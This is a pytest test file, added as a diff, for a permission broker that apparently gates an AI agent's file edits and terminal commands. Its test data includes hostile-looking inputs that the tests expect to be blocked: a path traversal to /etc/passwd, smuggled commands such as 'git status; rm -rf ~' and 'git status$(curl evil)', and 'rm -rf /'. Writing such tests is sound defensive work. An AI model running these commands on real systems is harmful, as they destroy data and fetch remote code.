@@ -1,0 +1,508 @@
+"""Permission policies, rules files, the broker: option choice, sticky, cancel, mediation, audit."""
+
+from __future__ import annotations
+
+import asyncio
+import io
+import json
+
+import pytest
+
+from acphost._errors import InternalError, RequestCancelled
+from acphost.host import (
+    AllowAll,
+    AllowReads,
+    Decision,
+    DenyAll,
+    Interactive,
+    PermissionBroker,
+    PermissionOption,
+    PermissionRequest,
+    PolicyFileError,
+    RulesPolicy,
+    Verdict,
+)
+
+STD = (
+    PermissionOption("opt-a1", "Allow", "allow_once"),
+    PermissionOption("opt-aa", "Always", "allow_always"),
+    PermissionOption("opt-r1", "Reject", "reject_once"),
+    PermissionOption("opt-ra", "Never", "reject_always"),
+)
+
+
+def req(kind="edit", title="Edit file", paths=("/ws/a.py",), command=None, options=STD, **kw):
+    return PermissionRequest(
+        session_id=kw.pop("session_id", "s1"),
+        tool_call_id=kw.pop("tool_call_id", "tc1"),
+        title=title,
+        tool_kind=kind,
+        paths=tuple(paths),
+        command=command,
+        options=tuple(options),
+        **kw,
+    )
+
+
+# -- built-in policies ---------------------------------------------------------
+
+
+async def test_builtin_policies():
+    assert (await DenyAll().decide(req())).decision is Decision.REJECT
+    assert (await AllowAll().decide(req())).decision is Decision.ALLOW
+    reads = AllowReads()
+    for kind in ("read", "search", "think", "switch_mode"):
+        assert (await reads.decide(req(kind=kind))).decision is Decision.ALLOW
+    for kind in ("edit", "delete", "move", "execute", "fetch", "other", None, "brand_new"):
+        assert (await reads.decide(req(kind=kind))).decision is Decision.REJECT
+    # a mediated operation is never a read, whatever kind it claims
+    fake = PermissionRequest("s", tool_kind="read", operation="fs_write", paths=("/x",))
+    assert (await reads.decide(fake)).decision is Decision.REJECT
+
+
+async def test_interactive_policy():
+    seen = []
+
+    async def prompt(request):
+        seen.append(request)
+        return Verdict.allow("user said yes", always=True)
+
+    verdict = await Interactive(prompt).decide(req())
+    assert verdict == Verdict.allow("user said yes", always=True)
+    assert seen == [req()]
+
+    async def broken(request):
+        raise RuntimeError("ui crashed")
+
+    assert (await Interactive(broken).decide(req())).decision is Decision.REJECT
+
+    async def undecided(request):
+        return Verdict.ask()
+
+    assert (await Interactive(undecided).decide(req())).decision is Decision.REJECT
+
+
+# -- rules files -----------------------------------------------------------------
+
+
+def write_rules(tmp_path, data, name="policy.json"):
+    path = tmp_path / name
+    path.write_text(data if isinstance(data, str) else json.dumps(data))
+    return path
+
+
+async def test_rules_matchers_first_match_and_default(tmp_path):
+    policy = RulesPolicy.from_file(
+        write_rules(
+            tmp_path,
+            {
+                "rules": [
+                    {"title": "*secret*", "decision": "reject"},
+                    {"kind": ["edit", "delete"], "path": "/ws/src/*", "decision": "allow"},
+                    {"kind": "execute", "command": "git status*", "decision": "allow"},
+                    {"kind": "read", "decision": "allow"},
+                    {"path": "/etc/*", "decision": "reject"},
+                ],
+                "default": "ask",
+            },
+        )
+    )
+
+    async def decide(r):
+        return await policy.decide(r)
+
+    v = await decide(req(title="Edit secret", paths=("/ws/src/x",)))
+    assert (v.decision, v.reason) == (Decision.REJECT, "rule 1 in policy.json")
+    v = await decide(req(paths=("/ws/src/x.py", "/ws/src/y.py")))
+    assert (v.decision, v.reason) == (Decision.ALLOW, "rule 2 in policy.json")
+    # allow + path: every path must match
+    v = await decide(req(paths=("/ws/src/x.py", "/ws/other/y.py")))
+    assert v.decision is Decision.ASK and v.reason == "default of policy.json"
+    # ".." cannot sneak out of an allowed glob
+    v = await decide(req(paths=("/ws/src/../../etc/passwd",)))
+    assert v.reason == "rule 5 in policy.json"
+    # reject + path: any path matching is enough
+    v = await decide(req(kind="other", paths=("/ws/ok", "/etc/shadow")))
+    assert (v.decision, v.reason) == (Decision.REJECT, "rule 5 in policy.json")
+    v = await decide(req(kind="execute", command="git status --short", paths=()))
+    assert v.reason == "rule 3 in policy.json"
+    # shell control characters are not allowed through a glob that lacks them
+    v = await decide(req(kind="execute", command="git status; rm -rf ~", paths=()))
+    assert v.decision is Decision.ASK
+    v = await decide(req(kind="execute", command="git status$(curl evil)", paths=()))
+    assert v.decision is Decision.ASK
+    v = await decide(req(kind="read", title="Read", paths=()))
+    assert v.reason == "rule 4 in policy.json"
+    # a request without a title / command never matches those matchers
+    v = await decide(req(kind="execute", command=None, title=None, paths=()))
+    assert v.decision is Decision.ASK
+    # mediated operations take the implied kind
+    v = await decide(PermissionRequest.for_fs_write("s", "/ws/src/new.py"))
+    assert v.reason == "rule 2 in policy.json"
+    v = await decide(PermissionRequest.for_terminal("s", "git", ["status"]))
+    assert v.reason == "rule 3 in policy.json"
+
+
+async def test_rules_default_is_reject(tmp_path):
+    policy = RulesPolicy.from_file(write_rules(tmp_path, {"rules": []}))
+    assert (await policy.decide(req())).decision is Decision.REJECT
+
+
+@pytest.mark.parametrize(
+    ("content", "needle"),
+    [
+        ('{"rules": [\n  {"kind": "edit",, }\n]}', "line 2, column"),
+        ({"rules": [], "defaults": "allow"}, "unknown key"),
+        ({"rules": [{"kind": "edit", "decison": "allow"}]}, "rule 1: unknown key"),
+        ({"rules": [{"kind": "edit"}]}, "'decision' is required"),
+        ({"rules": [{"decision": "maybe"}]}, "must be 'allow', 'reject' or 'ask'"),
+        ({"rules": [{"decision": ["allow"]}]}, "must be 'allow'"),
+        ({"rules": [{"kind": "edits", "decision": "allow"}]}, "unknown kind"),
+        ({"rules": [{"kind": [], "decision": "allow"}]}, "non-empty list"),
+        ({"rules": [{"path": 3, "decision": "allow"}]}, "'path' must be a glob"),
+        ({"rules": {"kind": "edit"}}, "'rules': must be a list"),
+        ({"rules": ["edit"]}, "rule 1: must be an object"),
+        ([1, 2], "top level"),
+        ({"default": "sure"}, "'default'"),
+    ],
+)
+def test_bad_rules_files(tmp_path, content, needle):
+    path = write_rules(tmp_path, content, "bad.json")
+    with pytest.raises(PolicyFileError, match=r"bad\.json") as info:
+        RulesPolicy.from_file(path)
+    assert needle in str(info.value)
+    assert isinstance(info.value, ValueError)
+
+
+def test_missing_rules_file(tmp_path):
+    with pytest.raises(PolicyFileError, match="cannot be read"):
+        RulesPolicy.from_file(tmp_path / "nope.json")
+
+
+# -- option choice ------------------------------------------------------------------
+
+
+class Fixed:
+    def __init__(self, verdict):
+        self.verdict = verdict
+        self.calls = 0
+
+    async def decide(self, request):
+        self.calls += 1
+        return self.verdict
+
+
+@pytest.mark.parametrize(
+    ("verdict", "options", "expected"),
+    [
+        (Verdict.allow(), STD, ("opt-a1", "allow_once")),
+        (Verdict.allow(always=True), STD, ("opt-aa", "allow_always")),
+        (Verdict.reject(), STD, ("opt-r1", "reject_once")),
+        (Verdict.reject(always=True), STD, ("opt-ra", "reject_always")),
+        # fallbacks inside the same polarity
+        (Verdict.allow(), STD[1:], ("opt-aa", "allow_always")),
+        (Verdict.allow(always=True), STD[:1] + STD[2:], ("opt-a1", "allow_once")),
+        (Verdict.reject(), (STD[0], STD[3]), ("opt-ra", "reject_always")),
+        # allow with no allow option: the safe side, a reject option
+        (Verdict.allow(), STD[2:], ("opt-r1", "reject_once")),
+        # reject with no reject option: cancelled
+        (Verdict.reject(), STD[:2], (None, None)),
+        (Verdict.allow(), (), (None, None)),
+    ],
+)
+async def test_option_chosen_by_kind(verdict, options, expected):
+    broker = PermissionBroker(Fixed(verdict))
+    outcome = await broker.request(req(options=options))
+    assert (outcome.option_id, outcome.option_kind) == expected
+    assert outcome.cancelled is (expected[0] is None)
+
+
+async def test_ids_are_never_interpreted():
+    tricky = (
+        PermissionOption("allow_once", "trap", "reject_once"),
+        PermissionOption("reject", "real allow", "allow_once"),
+        PermissionOption("x", "unknown", "allow_forever"),
+    )
+    allow = await PermissionBroker(AllowAll()).request(req(options=tricky))
+    assert allow.option_id == "reject"
+    deny = await PermissionBroker(DenyAll()).request(req(options=tricky))
+    assert deny.option_id == "allow_once"
+    only_unknown = await PermissionBroker(AllowAll()).request(req(options=tricky[2:]))
+    assert only_unknown.cancelled
+
+
+async def test_duplicate_kinds_pick_first():
+    opts = (
+        PermissionOption("first", "a", "allow_once"),
+        PermissionOption("second", "b", "allow_once"),
+    )
+    assert (await PermissionBroker(AllowAll()).request(req(options=opts))).option_id == "first"
+
+
+# -- sticky ---------------------------------------------------------------------
+
+
+async def test_always_is_sticky_per_session():
+    policy = Fixed(Verdict.allow("user", always=True))
+    broker = PermissionBroker(policy)
+    assert (await broker.request(req())).option_kind == "allow_always"
+    policy.verdict = Verdict.reject()
+    again = await broker.request(req(tool_call_id="tc2"))
+    assert again.option_kind == "allow_once" and "remembered" in again.reason
+    assert policy.calls == 1
+    # a different title is a different key
+    assert (await broker.request(req(title="Edit other"))).decision == "reject"
+    # another session does not inherit it
+    assert (await broker.request(req(session_id="s2"))).decision == "reject"
+
+
+async def test_always_reject_sticky_and_per_agent():
+    policy = Fixed(Verdict.reject(always=True))
+    broker = PermissionBroker(policy, remember_per_agent=True)
+    assert (await broker.request(req())).option_kind == "reject_always"
+    policy.verdict = Verdict.allow()
+    assert (await broker.request(req(session_id="s2"))).decision == "reject"
+    assert policy.calls == 1
+
+
+# -- ask ----------------------------------------------------------------------------
+
+
+async def test_ask_without_handler_rejects_and_with_handler_asks():
+    rules = RulesPolicy.from_dict({"rules": [], "default": "ask"})
+    outcome = await PermissionBroker(rules).request(req())
+    assert outcome.decision == "reject" and "non-interactive" in outcome.reason
+
+    async def yes(request):
+        return Verdict.allow("clicked")
+
+    outcome = await PermissionBroker(rules, ask=Interactive(yes)).request(req())
+    assert (outcome.decision, outcome.reason) == ("allow", "clicked")
+
+
+# -- cancellation -------------------------------------------------------------------
+
+
+async def test_cancel_resolves_pending_and_blocks_new_until_turn():
+    started = asyncio.Event()
+    cancelled = []
+
+    async def slow(request):
+        started.set()
+        try:
+            await asyncio.sleep(100)
+        except asyncio.CancelledError:
+            cancelled.append(True)
+            raise
+        return Verdict.allow()
+
+    broker = PermissionBroker(Interactive(slow))
+    pending = asyncio.create_task(broker.request(req()))
+    other = asyncio.create_task(broker.request(req(session_id="s2")))
+    await started.wait()
+    broker.cancel_session("s1")
+    outcome = await asyncio.wait_for(pending, 1)
+    assert outcome.cancelled and cancelled
+    assert not other.done()  # other sessions are untouched
+    other.cancel()
+    # new requests of s1 are answered cancelled at once, mediation raises
+    assert (await asyncio.wait_for(broker.request(req()), 1)).cancelled
+    with pytest.raises(RequestCancelled):
+        await broker.check(PermissionRequest.for_fs_write("s1", "/ws/a.py"))
+    broker.begin_turn("s1")
+    allowing = PermissionBroker(AllowAll())
+    allowing.cancel_session("s1")
+    allowing.begin_turn("s1")
+    assert (await allowing.request(req())).decision == "allow"
+
+
+async def test_cancel_of_pending_check():
+    gate = asyncio.Event()
+
+    async def waits(request):
+        await gate.wait()
+        return Verdict.allow()
+
+    broker = PermissionBroker(Interactive(waits))
+    task = asyncio.create_task(broker.check(PermissionRequest.for_fs_write("s1", "/ws/x")))
+    await asyncio.sleep(0)
+    await asyncio.sleep(0)
+    broker.cancel_session("s1")
+    with pytest.raises(RequestCancelled):
+        await asyncio.wait_for(task, 1)
+
+
+async def test_request_itself_cancelled_cancels_prompt():
+    cancelled = []
+
+    async def slow(request):
+        try:
+            await asyncio.sleep(100)
+        except asyncio.CancelledError:
+            cancelled.append(True)
+            raise
+        return Verdict.allow()
+
+    broker = PermissionBroker(Interactive(slow))
+    task = asyncio.create_task(broker.request(req()))
+    await asyncio.sleep(0.01)
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    await asyncio.sleep(0)
+    assert cancelled
+
+
+async def test_policy_failure_rejects():
+    class Broken:
+        async def decide(self, request):
+            raise ValueError("bug")
+
+    outcome = await PermissionBroker(Broken()).request(req())
+    assert outcome.decision == "reject"
+
+
+# -- mediation --------------------------------------------------------------------
+
+
+async def test_check_allow_and_deny():
+    await PermissionBroker(AllowAll()).check(PermissionRequest.for_fs_write("s", "/ws/a"))
+    broker = PermissionBroker(
+        RulesPolicy.from_dict(
+            {"rules": [{"kind": "edit", "decision": "reject"}]}, source="policy.json"
+        )
+    )
+    with pytest.raises(InternalError) as info:
+        await broker.check(PermissionRequest.for_fs_write("s", "/x/y"))
+    assert info.value.code == -32603
+    assert info.value.message == (
+        "permission denied by the host's policy: writing /x/y (rule 1 in policy.json)"
+    )
+    assert info.value.data == {"reason": "permission_denied"}
+    with pytest.raises(InternalError, match="running 'rm -rf /'"):
+        await PermissionBroker().check(PermissionRequest.for_terminal("s", "rm -rf /"))
+
+
+async def test_check_after_allowed_tool_call_in_turn():
+    asked = []
+
+    async def prompt(request):
+        asked.append(request.operation)
+        return Verdict.allow("user")
+
+    broker = PermissionBroker(DenyAll(), ask=None)
+    # the policy denies, but the agent asked and the user allowed (via a rules ask)
+    broker = PermissionBroker(
+        RulesPolicy.from_dict({"rules": [], "default": "ask"}), ask=Interactive(prompt)
+    )
+    outcome = await broker.request(req(kind="edit", paths=("/ws/a.py",), tool_call_id="tc9"))
+    assert outcome.decision == "allow"
+    await broker.check(PermissionRequest.for_fs_write("s1", "/ws/./a.py"))
+    outcome = await broker.request(
+        req(kind="execute", title="`ls -la`", command="ls -la", paths=(), tool_call_id="tc10")
+    )
+    await broker.check(PermissionRequest.for_terminal("s1", "bash", ["-c", "ls -la"]))
+    await broker.check(PermissionRequest.for_terminal("s1", "ls -la"))
+    assert asked == ["tool_call", "tool_call"]
+    # a different path / command is asked again
+    await broker.check(PermissionRequest.for_fs_write("s1", "/ws/b.py"))
+    assert asked[-1] == "fs_write"
+    # a new turn forgets this turn's grants
+    broker.begin_turn("s1")
+    await broker.check(PermissionRequest.for_fs_write("s1", "/ws/a.py"))
+    assert asked == ["tool_call", "tool_call", "fs_write", "fs_write"]
+
+
+async def test_rejected_tool_call_grants_nothing():
+    broker = PermissionBroker(DenyAll())
+    await broker.request(req(paths=("/ws/a.py",)))
+    with pytest.raises(InternalError):
+        await broker.check(PermissionRequest.for_fs_write("s1", "/ws/a.py"))
+
+
+# -- audit log --------------------------------------------------------------------
+
+
+async def test_audit_log_lines(tmp_path):
+    log = tmp_path / "audit.jsonl"
+    broker = PermissionBroker(AllowReads(), audit_log=log)
+    await broker.request(req(kind="read", title="Read a.py"))
+    await broker.request(req(kind="edit", raw_input={"content": "SECRET-CONTENT"}))
+    with pytest.raises(InternalError):
+        await broker.check(PermissionRequest.for_terminal("s1", "make", ["all"], cwd="/ws"))
+    broker.cancel_session("s1")
+    await broker.request(req())
+    broker.close()
+    text = log.read_text()
+    assert "SECRET-CONTENT" not in text
+    lines = [json.loads(line) for line in text.splitlines()]
+    assert [line["decision"] for line in lines] == ["allow", "reject", "reject", "cancelled"]
+    first = lines[0]
+    assert set(first) == {
+        "time",
+        "session",
+        "toolCallId",
+        "operation",
+        "toolKind",
+        "title",
+        "paths",
+        "command",
+        "decision",
+        "optionKind",
+        "reason",
+    }
+    assert first["time"].endswith("+00:00")
+    assert (first["session"], first["toolCallId"], first["optionKind"]) == (
+        "s1",
+        "tc1",
+        "allow_once",
+    )
+    assert lines[2]["operation"] == "terminal_create"
+    assert lines[2]["command"] == "make all"
+    assert lines[2]["toolKind"] == "execute"
+    assert oct(log.stat().st_mode & 0o777) == "0o600"
+
+
+async def test_audit_log_stream_and_odd_paths():
+    stream = io.StringIO()
+    broker = PermissionBroker(AllowAll(), audit_log=stream)
+    await broker.request(req(paths=("/ws/caf\udce9",)))
+    line = json.loads(stream.getvalue())
+    assert line["paths"] == ["/ws/caf\udce9"]
+
+
+def test_host_exports_pinned():
+    import acphost.host as host
+
+    assert sorted(host.__all__) == sorted(
+        [
+            "DEFAULT_MAX_READ_BYTES",
+            "READ_ONLY_TOOL_KINDS",
+            "AllowAll",
+            "AllowReads",
+            "AuditLog",
+            "Decision",
+            "DenyAll",
+            "ExitStatus",
+            "FileSystemProvider",
+            "Interactive",
+            "InteractiveCallback",
+            "PermissionBroker",
+            "PermissionOption",
+            "PermissionOutcome",
+            "PermissionPolicy",
+            "PermissionRequest",
+            "PolicyFileError",
+            "Rule",
+            "RulesPolicy",
+            "TerminalCreated",
+            "TerminalEvent",
+            "TerminalExited",
+            "TerminalManager",
+            "TerminalOutput",
+            "TerminalOutputReceived",
+            "Verdict",
+            "Workspace",
+        ]
+    )
+    assert all(hasattr(host, name) for name in host.__all__)
